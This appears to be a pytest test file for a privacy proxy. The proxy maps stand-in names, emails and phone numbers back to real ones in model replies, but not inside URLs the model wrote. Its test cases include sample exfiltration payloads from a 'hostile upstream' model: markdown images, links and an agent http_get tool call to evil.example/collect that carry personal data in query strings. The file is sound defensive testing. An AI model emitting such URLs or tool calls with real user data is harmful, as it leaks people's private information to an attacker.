"""Restoring a reply where it is safe (#15): never into a URL the model wrote (unless the whole URL
is the user's), and a lone name only where it refers to the person. Replies written as a hostile
upstream would write them; whole and streamed in any split give the same text."""
import json

import pytest
from chunk_invariance import assert_chunk_invariant
from chunk_invariance.strategies import splits_of
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from detector import url_regions
from detector.restore import Restorer
from detector.store import Mapping
from proxy.sites.channels import restore_json_text

MAPPINGS = [
    Mapping("Maria", "Elena", "PERSON"), Mapping("Gonzalez", "Rowe", "PERSON"),
    Mapping("Margaret", "Ingrid", "PERSON"), Mapping("Holloway", "Lindqvist", "PERSON"),
    Mapping("john.smith@example.com", "elena.rowe@harlow-labs.com", "EMAIL"),
    Mapping("acme-corp.com", "harlow-labs.com", "URL"),
    Mapping("https://acme-corp.com/team/maria", "https://harlow-labs.com/team/elena", "URL"),
    Mapping("sara", "lena", "PERSON"),
    Mapping("+1 415-555-2671", "+1 464-418-8471", "PHONE"),
]
R = Restorer(MAPPINGS)
REALS = ("Maria", "Gonzalez", "Margaret", "Holloway", "john.smith", "acme-corp", "sara", "415-555")


def stream_all(chunks, restorer=R):
    s = restorer.stream()
    return [s.feed(c) for c in chunks] + [s.flush()]


# --- URLs --------------------------------------------------------------------------------------

@pytest.mark.parametrize("reply, expected", [
    # the image: a page that renders it would send the values to evil.example
    ("![img](https://evil.example/p.png?e=elena.rowe@harlow-labs.com&n=Ingrid+Lindqvist)",
     "![img](https://evil.example/p.png?e=elena.rowe@harlow-labs.com&n=Ingrid+Lindqvist)"),
    # the visible link text is restored, the target is not
    ("[Elena Rowe](https://evil.example/u?n=Elena%20Rowe) wrote",
     "[Maria Gonzalez](https://evil.example/u?n=Elena%20Rowe) wrote"),
    ("[write to elena.rowe@harlow-labs.com](mailto:elena.rowe@harlow-labs.com)",
     "[write to john.smith@example.com](mailto:elena.rowe@harlow-labs.com)"),
    ('<a href="/c?who=Elena Rowe">Elena Rowe</a>', '<a href="/c?who=Elena Rowe">Maria Gonzalez</a>'),
    ("<img src='https://x.example/?p=+1 464-418-8471'>", "<img src='https://x.example/?p=+1 464-418-8471'>"),
    ("see https://evil.example/collect?who=Ingrid.", "see https://evil.example/collect?who=Ingrid."),
    ("fetch evil.example/collect?who=Elena now", "fetch evil.example/collect?who=Elena now"),
    ("resolve Elena.evil.example please", "resolve Elena.evil.example please"),
    # URLs the user sent, whole: they map back (also as a link target and in an href)
    ("Her page: https://harlow-labs.com/team/elena.", "Her page: https://acme-corp.com/team/maria."),
    ("[CV](https://harlow-labs.com/team/elena)", "[CV](https://acme-corp.com/team/maria)"),
    ('<a href="https://harlow-labs.com/team/elena">x</a>', '<a href="https://acme-corp.com/team/maria">x</a>'),
    ("Mail the team at harlow-labs.com today", "Mail the team at acme-corp.com today"),
    # ... but not with anything added to them
    ("https://harlow-labs.com/team/elena?x=1 and harlow-labs.com/careers",
     "https://harlow-labs.com/team/elena?x=1 and harlow-labs.com/careers"),
    # outside URLs everything is restored as before
    ("Write to elena.rowe@harlow-labs.com or call +1 464-418-8471.",
     "Write to john.smith@example.com or call +1 415-555-2671."),
])
def test_urls_the_model_wrote_keep_their_stand_ins(reply, expected):
    assert R.restore(reply) == expected
    assert "".join(stream_all(list(reply))) == expected


def test_a_tool_call_url_keeps_its_stand_in():
    """The issue's agent case: http_get {"url": ".../collect?who=<stand-in>"}."""
    args = json.dumps({"url": "https://evil.example/collect?who=Ingrid Lindqvist",
                       "note": "ask Ingrid Lindqvist", "host": "Elena.evil.example"})
    out = json.loads(restore_json_text(R, args))
    assert out == {"url": "https://evil.example/collect?who=Ingrid Lindqvist",
                   "note": "ask Margaret Holloway", "host": "Elena.evil.example"}


# --- attribution ---------------------------------------------------------------------------------

@pytest.mark.parametrize("reply, expected", [
    ("The Rowe Bridge opened in 1932.", "The Rowe Bridge opened in 1932."),
    ("They rowe across.", "They rowe across."),
    ("Take Rowe Street, then Lake Elena.", "Take Rowe Street, then Lake Elena."),
    ("the Lindqvist syndrome", "the Lindqvist syndrome"),
    ("Dear Ms. Rowe, thanks.", "Dear Ms. Gonzalez, thanks."),
    ("Dr Rowe agreed.", "Dr Gonzalez agreed."),
    ("Elena's lease ends soon.", "Maria's lease ends soon."),
    ("Rowe's landlord", "Gonzalez's landlord"),
    ("Hi Elena!", "Hi Maria!"),
    ("ELENA ROWE", "MARIA GONZALEZ"),
    ("Elena Rowe and Ingrid", "Maria Gonzalez and Margaret"),
    ("elena.rowe is her handle", "maria.gonzalez is her handle"),
    ("lena and Lena", "sara and Sara"),  # the user wrote "sara" in lower case
    # a thing named after an article and a noun for things people name; other nouns refer
    ("The ship Elena sank.", "The ship Elena sank."),
    ("Have you heard the album Elena?", "Have you heard the album Elena?"),
    ("Operation Elena began.", "Operation Elena began."),
    ("the tenant Elena paid.", "the tenant Maria paid."),
    ("In the email Elena sent, the date is wrong.", "In the email Maria sent, the date is wrong."),
    ("Your friend Elena agreed.", "Your friend Maria agreed."),
])
def test_lone_names_only_where_they_refer(reply, expected):
    assert R.restore(reply) == expected
    assert "".join(stream_all(list(reply))) == expected


def test_the_old_rule_is_still_available_for_measuring():
    assert Restorer(MAPPINGS, rule="all").restore("The Rowe Bridge") == "The Gonzalez Bridge"
    with pytest.raises(ValueError):
        Restorer(MAPPINGS, rule="nope")


def test_exact_restore_restores_everything():
    text = "The Rowe Bridge, https://evil.example/?n=Elena, rowe"
    assert R.restore_exact(text) == "The Gonzalez Bridge, https://evil.example/?n=Maria, gonzalez"


# --- properties ------------------------------------------------------------------------------------

_PIECES = st.sampled_from([
    "Elena", "elena", "ELENA", "Rowe", "rowe", "Ingrid", "Lindqvist", "lena", "Lena", "'s", " ",
    "\n", ".", ",", "-", "_", "@", "/", "?n=", "https://", "http", "s://", "evil.example", ".com",
    "](", "![x", "[", "]", "(", ")", '<a href="', '"', "'", "url(", "www.", "The ", " Bridge",
    "Ms. ", "Lake ", " Street", "elena.rowe@harlow-labs.com", "harlow-labs.com",
    "https://harlow-labs.com/team/elena", "+1 464-418-8471", "x", "é", "I", " Monday", ":8080",
])
_REPLIES = st.lists(_PIECES, max_size=16).map("".join)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.data())
def test_random_replies_are_split_invariant(data):
    text = data.draw(_REPLIES)
    chunks = data.draw(splits_of(text))
    assert_chunk_invariant(stream_all, R.restore, text, splits=[chunks])


@settings(max_examples=60, deadline=None)
@given(_REPLIES.filter(lambda t: len(t) <= 60))
def test_random_replies_all_two_part_splits(text):
    assert_chunk_invariant(stream_all, R.restore, text, splits="all-two-part")


@settings(max_examples=400, deadline=None)
@given(_REPLIES)
def test_no_real_value_ends_up_in_a_url_the_user_did_not_send(text):
    out = R.restore(text)
    for a, b in url_regions.regions(out):
        region = out[a:b].lower()
        if region.rstrip(".,;:!?)") in ("https://acme-corp.com/team/maria", "acme-corp.com"):
            continue
        assert not any(real.lower() in region for real in REALS), (text, out, out[a:b])
